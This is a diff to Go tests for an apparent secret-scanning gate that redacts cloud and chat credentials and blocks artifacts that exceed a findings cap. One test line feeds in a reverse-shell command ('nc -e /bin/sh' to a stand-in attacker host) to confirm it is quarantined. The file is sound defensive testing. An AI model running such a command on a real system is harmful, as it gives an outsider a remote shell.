@@ -12,6 +12,7 @@ import (
 	"os"
 	"path/filepath"
 	"reflect"
+	"slices"
 	"strings"
 	"testing"
 	"testing/iotest"
@@ -116,8 +117,9 @@ func TestWordBoundaries(t *testing.T) {
 	for _, in := range []string{
 		"the amount was discounted once since",
 		"announce ounce syncing nc_count skip DISK ASK",
-		"xghp_" + fakeGitHub[4:], // not at a word start
-		"AKIAZ7QWERTY2345ABCDX",  // runs on past 20 characters
+		"AKIAZ7QWERTY2345ABCDX",         // a longer run of upper case and digits
+		"Q" + fakeAWS,                   // likewise, on the left
+		"XSK" + strings.Repeat("a", 32), // short prefixes still start a word
 	} {
 		if _, rep := g.Scan("stdout", []byte(in)); len(rep.Findings) != 0 {
 			t.Errorf("%q: findings %v", in, rulesOf(rep))
@@ -125,6 +127,68 @@ func TestWordBoundaries(t *testing.T) {
 	}
 	if _, rep := g.Scan("stdout", []byte("nc -e /bin/sh evil.example 9001")); rep.Verdict != VerdictQuarantine {
 		t.Errorf("nc -e: %s %v", rep.Verdict, rulesOf(rep))
+	}
+}
+
+// TestGluedTokens checks that fixed-format credentials are found when a
+// letter, digit, '_' or '-' touches them: gluing bytes to a key must not
+// let it through.
+func TestGluedTokens(t *testing.T) {
+	g := newGate(t, DefaultPolicy())
+	for _, c := range []struct{ in, rule, secret string }{
+		{"x" + fakeAWS, "aws-access-key-id", fakeAWS},
+		{"_" + fakeAWS, "aws-access-key-id", fakeAWS},
+		{fakeAWS + "x", "aws-access-key-id", fakeAWS},
+		{fakeAWS + "_", "aws-access-key-id", fakeAWS},
+		{fakeAWS + "-", "aws-access-key-id", fakeAWS},
+		{"key=" + fakeAWS + "abc", "aws-access-key-id", fakeAWS},
+		{"x" + fakeGitHub, "github-pat", fakeGitHub},
+		{fakeGitHub + "x9_-", "github-pat", fakeGitHub},
+		{"1sk_live_" + strings.Repeat("aB3", 10) + "_", "stripe-live-key", "sk_live_" + strings.Repeat("aB3", 10)},
+		{"abcxoxb-12345678-12345678-" + strings.Repeat("Ab1", 9), "slack-bot-token", "xoxb-12345678-12345678-" + strings.Repeat("Ab1", 9)},
+	} {
+		out, rep := g.Scan("stdout", []byte(c.in))
+		if !slices.Contains(rulesOf(rep), c.rule) || bytes.Contains(out, []byte(c.secret)) {
+			t.Errorf("%q: rules %v, out %q", c.in, rulesOf(rep), out)
+		}
+	}
+}
+
+// TestFindingsCap checks that an artifact with more than MaxFindings
+// findings is blocked, that nothing after the cut is returned, and that
+// Scan and ScanStream agree.
+func TestFindingsCap(t *testing.T) {
+	g := newGate(t, DefaultPolicy())
+	g.chunk = 4099
+	line := "mail a@example.com\n"
+	data := []byte(strings.Repeat(line, MaxFindings+50) + fakeAWS)
+	out, rep := g.Scan("stdout", data)
+	if rep.Verdict != VerdictBlock || len(rep.Findings) != MaxFindings+1 {
+		t.Fatalf("verdict %s, %d findings", rep.Verdict, len(rep.Findings))
+	}
+	last := rep.Findings[MaxFindings]
+	cut := int64(MaxFindings*len(line) + len("mail "))
+	if last.Rule != RuleTooManyFindings || last.Offset != cut || last.Length != len(data)-int(cut) {
+		t.Errorf("cap finding %+v, want offset %d", last, cut)
+	}
+	if bytes.Contains(out, []byte("a@example.com")) || bytes.Contains(out, []byte("AKIA")) ||
+		!bytes.HasSuffix(out, []byte("mail ")) {
+		t.Errorf("output after the cut: %q", out[max(0, len(out)-40):])
+	}
+	r := bytes.NewReader(data)
+	var sout bytes.Buffer
+	srep, err := g.ScanStream(context.Background(), "stdout", r, &sout)
+	if err != nil || !reflect.DeepEqual(srep, rep) || !bytes.Equal(sout.Bytes(), out) || r.Len() != 0 {
+		t.Errorf("stream differs: %v, %d vs %d findings, %d unread", err, len(srep.Findings), len(rep.Findings), r.Len())
+	}
+	// With a size limit too, both findings are reported.
+	p := DefaultPolicy()
+	p.MaxArtifactSize = int64(len(data) - 5)
+	g = newGate(t, p)
+	_, rep = g.Scan("stdout", data)
+	srep, err = g.ScanStream(context.Background(), "stdout", bytes.NewReader(data), io.Discard)
+	if err != nil || !reflect.DeepEqual(srep, rep) || !slices.Equal(rulesOf(rep)[MaxFindings:], []string{RuleTooManyFindings, RuleMaxArtifactSize}) {
+		t.Errorf("with size limit: %v %v / %v", err, rulesOf(rep)[MaxFindings:], rulesOf(srep)[MaxFindings:])
 	}
 }
 
